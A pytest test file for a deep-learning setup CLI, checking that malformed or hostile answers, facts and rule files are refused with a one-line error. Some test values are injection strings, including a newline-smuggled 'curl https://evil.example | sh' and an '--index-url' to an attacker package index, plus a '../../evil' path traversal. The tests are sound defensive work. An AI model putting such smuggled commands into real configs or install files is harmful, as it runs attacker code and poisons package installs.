"""Issue #15, round 2: hostile input files. Each one is refused with exit 2 (never 3, never a
traceback) and one line naming the file, the line and the key, and what is allowed; nothing in
them reaches a command, a generated file or a path.

Each test names the trigger; each failed before its fix."""

from __future__ import annotations

import datetime
import json
import subprocess
from pathlib import Path

import pytest

from tests.conftest import dlrec_argv
from tests.faults.helpers import FIXTURES, ROOT, run

MACHINE = FIXTURES / "personas5" / "machines" / "linux-cpu-all.json"
RECOMMEND = ("recommend", "--no-smoke", "--facts", str(MACHINE))


def _one_line(ran, path) -> str:
    assert ran.code == 2, (ran.code, ran.err)
    assert ran.out == ""
    [line] = ran.err.splitlines()
    assert line.startswith(f"dlrec: error: {path}"), line
    return line


def _facts(tmp_path: Path, name: str = "facts.json", **changes) -> Path:
    doc = json.loads(MACHINE.read_text())
    for dotted, value in changes.items():
        *head, last = dotted.split("__")
        node = doc
        for part in head:
            node = node.setdefault(part, {})
        node[last] = value
    path = tmp_path / name
    path.write_text(json.dumps(doc, indent=2))
    return path


# --------------------------------------------------------------------------- answers files

ANSWERS = {
    # Trigger: YAML 1.1 reads 2001-13-45 as a date, and fails building it (ValueError, exit 3).
    "yaml11-date": ("goal: 2001-13-45\n", "goal: '2001-13-45' is not a valid date (YYYY-MM-DD)"),
    # Trigger: a 5000-digit integer: int() refuses it (ValueError, exit 3).
    "5000-digits": ("goal: " + "9" * 5000 + "\n", "goal: a number of 5,000 digits (the limit is"),
    # Trigger: a timestamp with an offset of +99:00 (ValueError in datetime, exit 3).
    "bad-offset": ("goal: 2001-01-01 10:00:00+99:00\n", "+99:00' is not a valid date (YYYY-MM-DD)"),
    # The control: a real date is the string it was written as, refused as an answer value.
    "real-date": ("goal: 2001-01-01\n", "goal: '2001-01-01' is not allowed (allowed: research"),
    # Trigger: the same key twice in JSON (accepted silently; YAML refuses it).
    "json-duplicate": ('{"goal": "research",\n "goal": "learning"}\n', "duplicate key 'goal'"),
    # Trigger: a 5000-digit integer in JSON (ValueError from json.loads, exit 3).
    "json-5000-digits": ('{"goal": ' + "9" * 5000 + "}\n", "a number of 5,000 digits"),
}


@pytest.mark.parametrize("kind", list(ANSWERS))
def test_bad_answers_file_is_one_line_exit_2_in_recommend_and_ask(tmp_path, kind):
    text, needle = ANSWERS[kind]
    path = tmp_path / ("answers.json" if kind.startswith("json") else "answers.yaml")
    path.write_text(text)
    recommend = run(*RECOMMEND, "--answers", str(path))
    line = _one_line(recommend, f"{path}:")
    assert needle in line, line
    ask = run("ask", "--no-smoke", "--facts", str(MACHINE), "--answers", str(path))
    assert _one_line(ask, path) == line  # the same refusal, word for word


def test_json_duplicate_key_in_a_facts_file_names_its_lines(tmp_path):
    """Trigger: ``"cpu"`` twice in a facts document (the second silently won)."""
    doc = MACHINE.read_text().rstrip().removesuffix("}")
    path = tmp_path / "dup.json"
    path.write_text(doc + ',\n  "cpu": {"model": "other"}\n}\n')
    line = _one_line(run(*RECOMMEND[:2], "--facts", str(path)), f"{path}:")
    assert "duplicate key 'cpu' (first at line" in line, line


# --------------------------------------------------------------------------- facts values


@pytest.mark.parametrize(
    "key, value, needle",
    [
        # Trigger: a newline in a version would put a line of its own into requirements.txt.
        (
            "frameworks__pytorch__version",
            "2.13.0\n--index-url https://evil.example/simple",
            "key frameworks.pytorch.version: '2.13.0\\n--index-url https://evil.example/simple' "
            "is not a PEP 440 version",
        ),
        # Trigger: a newline in the interpreter path would add a command to SETUP.md.
        (
            "python__executable",
            "/usr/bin/python3\ncurl https://evil.example | sh",
            "key python.executable: '/usr/bin/python3\\ncurl",
        ),
        ("python__executable", "python3", "is not an absolute path"),
        ("frameworks__tensorflow__distribution", "tensorflow; evil", "is not a PEP 508 project"),
    ],
)
def test_a_facts_value_that_would_reach_a_command_is_refused(tmp_path, key, value, needle):
    path = _facts(tmp_path, **{key: value})
    for args in (RECOMMEND[:2], ("init", str(tmp_path / "proj"), "--no-smoke")):
        line = _one_line(run(*args, "--facts", str(path)), f"{path}:")
        assert needle in line, line
    assert not (tmp_path / "proj").exists()


def test_a_redacted_facts_document_still_loads(tmp_path):
    """The control: ``dlrec probe --json --redact`` writes home paths as ``~/...``."""
    path = _facts(tmp_path, python__executable="~/.venv/bin/python", disk__path="~/proj")
    assert run(*RECOMMEND[:2], "--facts", str(path)).code == 0


# --------------------------------------------------------------------------- rule files


def _overlay(tmp_path: Path, **rule) -> Path:
    body = {"id": "my-rule", "sources": ["KERAS-EASY"], "why": "Because.", "warn": ["all"]}
    body.update(rule)
    path = tmp_path / "overlay.yaml"
    path.write_text(
        "rules:\n  - " + "\n    ".join(f"{k}: {json.dumps(v)}" for k, v in body.items())
    )
    return path


@pytest.mark.parametrize(
    "fix",
    ["{python.nosuch}", "{python:>50000000}", "{python!r}", "{0}", "{nosuch}", "pip {"],
)
def test_a_fix_template_with_an_unknown_field_or_a_format_spec_is_refused_at_load(tmp_path, fix):
    """Trigger: ``{python.nosuch}`` exited 3 in checklist and printed unfilled in recommend;
    ``{python:>50000000}`` printed 50 MB; ``dlrec rules check`` accepted both."""
    path = _overlay(tmp_path, fix=fix)
    for args in (
        ("rules", "check", str(path)),
        ("checklist", "--no-smoke", "--facts", str(MACHINE), "--rules", str(path)),
        (*RECOMMEND, "--rules", str(path)),
    ):
        ran = run(*args)
        line = _one_line(ran, f"{path}:")
        assert "rule 'my-rule': fix:" in line and "(allowed: {backend}, " in line, line
        assert "{install_pytorch}" in line and "{python}" in line, line
        assert len(ran.err) < 400


def test_known_bare_placeholders_are_accepted(tmp_path):
    path = _overlay(tmp_path, fix="{python} -m pip install keras {backend} ({{literal}})")
    assert run("rules", "check", str(path)).code == 0


@pytest.mark.parametrize(
    "verified, needle",
    [
        ("2024-02-30", "verified: '2024-02-30' is not a valid date (YYYY-MM-DD)"),
        ("2026-11-31", "verified: '2026-11-31' is not a valid date (YYYY-MM-DD)"),
        ("2026-13", "rule 'my-rule': 'verified' must be YYYY-MM or YYYY-MM-DD and a real date"),
        ("26-11", "rule 'my-rule': 'verified' must be YYYY-MM or YYYY-MM-DD and a real date"),
    ],
)
def test_a_verified_date_that_does_not_exist_is_refused(tmp_path, verified, needle):
    """Trigger: ``verified: 2024-02-30`` (YAML 1.1 builds a date and fails: exit 3)."""
    path = _overlay(tmp_path)
    path.write_text(path.read_text() + f"\n    verified: {verified}\n")
    line = _one_line(run("rules", "check", str(path)), f"{path}:")
    assert needle in line, line


@pytest.mark.parametrize(
    "verified, stale", [("2026-05", True), ("2026-06-01", False), ("2026-11", False)]
)
def test_a_verified_date_older_than_six_months_is_reported_stale(
    runner, tmp_path, monkeypatch, verified, stale
):
    """Trigger: a rule verified long ago; measured from the run's date (frozen here)."""
    from recommender.cli import rules as rules_cli
    from recommender.cli.main import cli

    monkeypatch.setattr(rules_cli, "today", lambda: datetime.date(2026, 12, 1))
    path = _overlay(tmp_path, verified=verified)
    result = runner.invoke(cli, ["rules", "check", str(path)])
    assert result.exit_code == 0, result.output
    warned = [ln for ln in result.stdout.splitlines() if "rule 'my-rule'" in ln]
    assert bool(warned) is stale, result.stdout
    if stale:
        assert "verified 2026-05, 7 months before today (2026-12-01" in warned[0]
    monkeypatch.setattr(rules_cli, "today", lambda: datetime.date(2027, 12, 1))
    later = runner.invoke(cli, ["rules", "check", str(path)]).stdout
    assert "rule 'my-rule' was verified" in later  # the same rule, a year on: stale


# --------------------------------------------------------------------------- the environment


def _fake_keras(tmp_path: Path) -> Path:
    site = tmp_path / "site"
    (site / "keras").mkdir(parents=True)
    (site / "keras" / "__init__.py").write_text(
        "import os\n"
        "raise ValueError('Unable to import backend : ' + os.environ.get('KERAS_BACKEND', ''))\n"
    )
    info = site / "keras-3.9.9.dist-info"
    info.mkdir()
    (info / "METADATA").write_text("Metadata-Version: 2.1\nName: keras\nVersion: 3.9.9\n")
    (info / "top_level.txt").write_text("keras\n")
    return site


def test_keras_backend_that_is_a_path_never_becomes_one(tmp_path, isolated_home):
    """Trigger: ``KERAS_BACKEND=../../evil``: the smoke log path became
    ``logs/keras-../../evil-cpu.out`` (FileNotFoundError, exit 3)."""
    env = {"PYTHONPATH": str(_fake_keras(tmp_path)), "KERAS_BACKEND": "../../evil"}
    probed = run("probe", "--json", **env)
    keras = json.loads(probed.out)["frameworks"]["keras"]
    assert keras["backend"] == "invalid" and keras["backend_source"] == "KERAS_BACKEND"
    assert any("'../../evil' (from KERAS_BACKEND)" in w for w in json.loads(probed.out)["warnings"])
    smoke = run("smoke", "--framework", "keras", "--json", timeout=60, **env)
    assert smoke.code == 1, smoke.err
    results = json.loads(smoke.out)["results"]
    assert results and all(r["backend"] == "invalid" and not r["ok"] for r in results)
    assert all("Keras has no backend '../../evil'" in r["error"]["fix"] for r in results)
    assert not list(isolated_home.rglob("*evil*"))


def test_undecodable_working_directory_with_latin1_output(tmp_path):
    """Trigger: ``PYTHONIOENCODING=latin-1`` in a folder named ``café™``: the JSON and Markdown
    outputs print the path (UnicodeEncodeError, exit 3)."""
    folder = tmp_path / "café™"
    folder.mkdir()
    env = {**__import__("os").environ, "PYTHONIOENCODING": "latin-1", "PYTHONPATH": str(ROOT)}
    for args in (
        ("probe", "--json"),
        ("recommend", "--no-smoke", "--json"),
        ("checklist", "--no-smoke", "--format", "json", "--framework", "pytorch"),
        ("checklist", "--no-smoke", "--format", "markdown", "--framework", "pytorch"),
        ("probe",),
    ):
        proc = subprocess.run(
            dlrec_argv(*args), cwd=folder, env=env, capture_output=True, timeout=60
        )
        assert proc.returncode in (0, 1), (args, proc.stderr[-500:])
        assert b"Traceback" not in proc.stderr and proc.stdout, args
        if "json" in args:
            doc = json.loads(proc.stdout.decode("latin-1"))
            facts = doc.get("facts", doc) if "probe" in args or "recommend" in args else None
            if facts is not None:
                assert facts["disk"]["path"].endswith("café™")  # the escape is the character
